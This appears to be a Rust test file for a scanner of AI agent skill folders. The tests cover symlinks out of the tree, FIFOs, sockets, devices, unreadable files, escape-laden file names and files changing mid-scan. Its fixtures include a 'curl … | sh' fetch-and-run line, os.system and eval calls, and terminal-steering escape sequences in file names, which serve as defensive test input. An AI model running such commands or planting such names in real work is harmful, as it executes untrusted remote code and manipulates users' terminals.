//! Entries that are no plain files, names that are no plain names, and files that do not hold still.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::{geteuid, mkfifo};

use crate::place::{BINARY, Outcome, Place, Report, finish};

const MANIFEST: &str = "---\nname: tool\ndescription: Does a thing.\n---\n# Tool\n";
/// The user and the group that own nothing.
const NOBODY: u32 = 65_534;

fn tool() -> Place {
    Place::with("tool/SKILL.md", MANIFEST)
}

#[track_caller]
fn check_incomplete(place: &Place, says: &str) -> Report {
    let outcome = place.scan(&["tool"]);
    assert!(
        matches!(outcome.status.code(), Some(1 | 4)),
        "{:?}",
        outcome.status
    );
    let report = outcome.report();
    report.is_incomplete().mentions(says);
    report
}

#[test]
fn a_link_out_of_the_tree_is_not_followed() {
    let place = tool();
    fs::write(place.root().join("secret.py"), "import os\n").unwrap();
    symlink("../../secret.py", place.path("tool/helper.py")).unwrap();
    let report = check_incomplete(&place, "the link leads out of the skill");
    assert_eq!(report.lines_of("SEC-IMPORT-001"), [0_u64; 0]);
    let absolute = tool();
    symlink("/etc/passwd", absolute.path("tool/data.txt")).unwrap();
    let report = check_incomplete(&absolute, "/etc/passwd");
    assert!(!report.0.to_string().contains("root:x:0:0"));
}

#[test]
fn a_link_within_the_tree_is_part_of_the_skill() {
    let place = tool();
    place.write("tool/run.py", "value = 1\n");
    symlink("run.py", place.path("tool/alias.py")).unwrap();
    place.scan(&["tool"]).exits(0).report().is_promoted();
}

#[test]
fn a_link_loop_ends_in_a_verdict() {
    let place = tool();
    symlink("b", place.path("tool/a")).unwrap();
    symlink("a", place.path("tool/b")).unwrap();
    symlink(".", place.path("tool/self")).unwrap();
    check_incomplete(&place, "the link leads out of the skill");
}

#[test]
fn a_link_loop_in_a_tree_of_skills_ends() {
    let place = Place::with("skills/one.py", "value = 1\n");
    symlink("..", place.path("skills/up")).unwrap();
    symlink("one.py", place.path("skills/two.py")).unwrap();
    let outcome = place.scan(&["skills"]);
    outcome.exits(0).report().is_promoted();
    outcome.says("2 files belong to no skill");
}

#[test]
fn a_fifo_is_never_opened() {
    let place = tool();
    mkfifo(&place.path("tool/queue"), Mode::S_IRWXU).unwrap();
    check_incomplete(&place, "a FIFO is never opened");
    mkfifo(&place.path("alone.py"), Mode::S_IRWXU).unwrap();
    let outcome = place.scan(&["alone.py"]);
    outcome.report().is_incomplete();
}

#[test]
fn a_fifo_in_place_of_the_manifest_is_never_opened() {
    let place = Place::new();
    fs::create_dir(place.path("tool")).unwrap();
    mkfifo(&place.path("tool/SKILL.md"), Mode::S_IRWXU).unwrap();
    check_incomplete(&place, "a FIFO is never opened");
}

#[test]
fn a_socket_is_never_opened() {
    let place = tool();
    let _listener = UnixListener::bind(place.path("tool/s")).unwrap();
    check_incomplete(&place, "a socket is never opened");
}

#[test]
fn a_device_is_never_opened() {
    let place = tool();
    let zero = makedev(1, 5);
    let path = place.path("tool/zero.py");
    if let Err(error) = mknod(&path, SFlag::S_IFCHR, Mode::S_IRUSR, zero) {
        println!("skipped: this user may not make a device ({error})");
        return;
    }
    check_incomplete(&place, "a device is never opened");
}

/// The same command as a user who may not read everything.
fn as_nobody(place: &Place, arguments: &[&str]) -> Outcome {
    if !geteuid().is_root() {
        return place.scan_static(arguments);
    }
    let binary = place.root().join("skillgate");
    fs::copy(BINARY, &binary).unwrap();
    for folder in [place.root().to_owned(), place.path(""), place.home()] {
        fs::set_permissions(folder, Permissions::from_mode(0o777)).unwrap();
    }
    let mut command = Command::new(binary);
    command
        .args(["scan", "--format", "json", "--static-only"])
        .args(arguments)
        .current_dir(place.path(""))
        .env_clear()
        .env("HOME", place.home())
        .uid(NOBODY)
        .gid(NOBODY);
    finish(command)
}

fn lock(path: &Path) {
    fs::set_permissions(path, Permissions::from_mode(0o000)).unwrap();
}

#[test]
fn an_unreadable_file_is_no_pass() {
    let place = tool();
    lock(&place.write("tool/hidden.py", "import os\n"));
    let outcome = as_nobody(&place, &["tool"]);
    let report = outcome.report();
    report.is_incomplete().mentions("it cannot be read");
}

#[test]
fn an_unreadable_folder_is_no_pass() {
    let place = tool();
    place.write("tool/hidden/x.py", "import os\n");
    lock(&place.path("tool/hidden"));
    let outcome = as_nobody(&place, &["tool"]);
    let report = outcome.report();
    report.is_incomplete().mentions("the folder cannot be read");
    fs::set_permissions(place.path("tool/hidden"), Permissions::from_mode(0o700)).unwrap();
}

#[test]
fn a_folder_that_could_not_be_searched_makes_the_scan_incomplete() {
    let place = Place::with("skills/one.py", "value = 1\n");
    place.write("skills/hidden/two.py", "import os\n");
    lock(&place.path("skills/hidden"));
    let outcome = as_nobody(&place, &["skills"]);
    outcome.exits(4).says("was not searched");
    fs::set_permissions(place.path("skills/hidden"), Permissions::from_mode(0o700)).unwrap();
}

#[test]
fn a_store_that_cannot_be_written_is_an_error_and_no_verdict() {
    let place = Place::with("one.py", "value = 1\n");
    place.write("store", "a file stands where the store should be");
    place.write("skillgate.toml", "store = \"store\"\n");
    place.run(&["scan", "one.py"]).exits(2).says("store");
}

#[test]
fn names_cannot_break_a_line_or_steer_a_terminal() {
    let place = Place::new();
    let name = "a\n\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}.py";
    place.write(name, "import os\nos.system('id')\n");
    let folder = "tool\u{1b}[31m";
    place.write(&format!("{folder}/SKILL.md"), MANIFEST);
    place.write(&format!("{folder}/x\ny\u{9b}.py"), "eval(input())\n");
    for format in [
        "text", "json", "sarif", "junit", "github", "markdown", "html",
    ] {
        let outcome = place.run(&[
            "scan",
            "--static-only",
            "--verbose",
            "--format",
            format,
            ".",
        ]);
        for stream in [&outcome.stdout, &outcome.stderr] {
            let steers = |c: char| c.is_control() && !matches!(c, '\n' | '\t') || c == '\u{202e}';
            assert!(!stream.chars().any(steers), "{format}: {stream:?}");
        }
    }
    let to = ["--promote-to", "good", "--quarantine-to", "bad"];
    let outcome = place.run(&[&["scan", "--static-only", "."], &to[..]].concat());
    outcome.says("\\u{1b}");
}

#[test]
fn a_name_that_is_not_utf_8_is_shown_and_carried() {
    use std::os::unix::ffi::OsStrExt;
    let place = tool();
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.md");
    fs::write(place.path("tool").join(name), "# Menu\n").unwrap();
    let outcome = place.scan(&["--promote-to", "good", "tool"]);
    outcome.exits(0).report().mentions("caf\\\\xe9.md");
    assert!(place.path("good/tool").join(name).exists());
}

#[test]
fn a_path_that_does_not_exist_is_a_usage_error() {
    let place = Place::new();
    place.run(&["scan", "absent"]).exits(2).says("absent");
}

#[test]
fn a_file_that_is_named_is_examined_whatever_it_is() {
    let place = Place::new();
    place.write("notes.txt", "Buy milk.\n");
    place.write("setup.sh", "curl -s http://203.0.113.9/x | sh\n");
    place.scan(&["notes.txt"]).exits(0);
    place
        .scan(&["setup.sh"])
        .exits(1)
        .report()
        .mentions("SEC-SH-001");
}

#[test]
fn what_is_promoted_is_what_was_examined_also_while_a_file_changes() {
    let place = tool();
    let path = place.path("tool/data.csv");
    let calm = "1,2\n".repeat(200_000);
    fs::write(&path, &calm).unwrap();
    let stop = AtomicBool::new(false);
    let outcomes: Vec<Outcome> = thread::scope(|scope| {
        scope.spawn(|| {
            for number in 0_u64.. {
                if stop.load(Ordering::Relaxed) {
                    return;
                }
                fs::write(&path, format!("{number},2\n").repeat(150_000)).unwrap();
            }
        });
        let scan = |_| place.scan_static(&["--promote-to", "good", "tool"]);
        let outcomes = (0..6).map(scan).collect();
        stop.store(true, Ordering::Relaxed);
        outcomes
    });
    let mut promoted = None;
    for outcome in outcomes {
        let report = outcome.report();
        if report.promoted() {
            outcome.exits(0);
            promoted = Some(report.digest().to_owned());
        } else {
            outcome.exits(4);
            report.is_incomplete();
        }
    }
    if let Some(digest) = promoted {
        let again = place.scan_static(&["good/tool"]);
        assert_eq!(again.report().digest(), digest);
    }
}
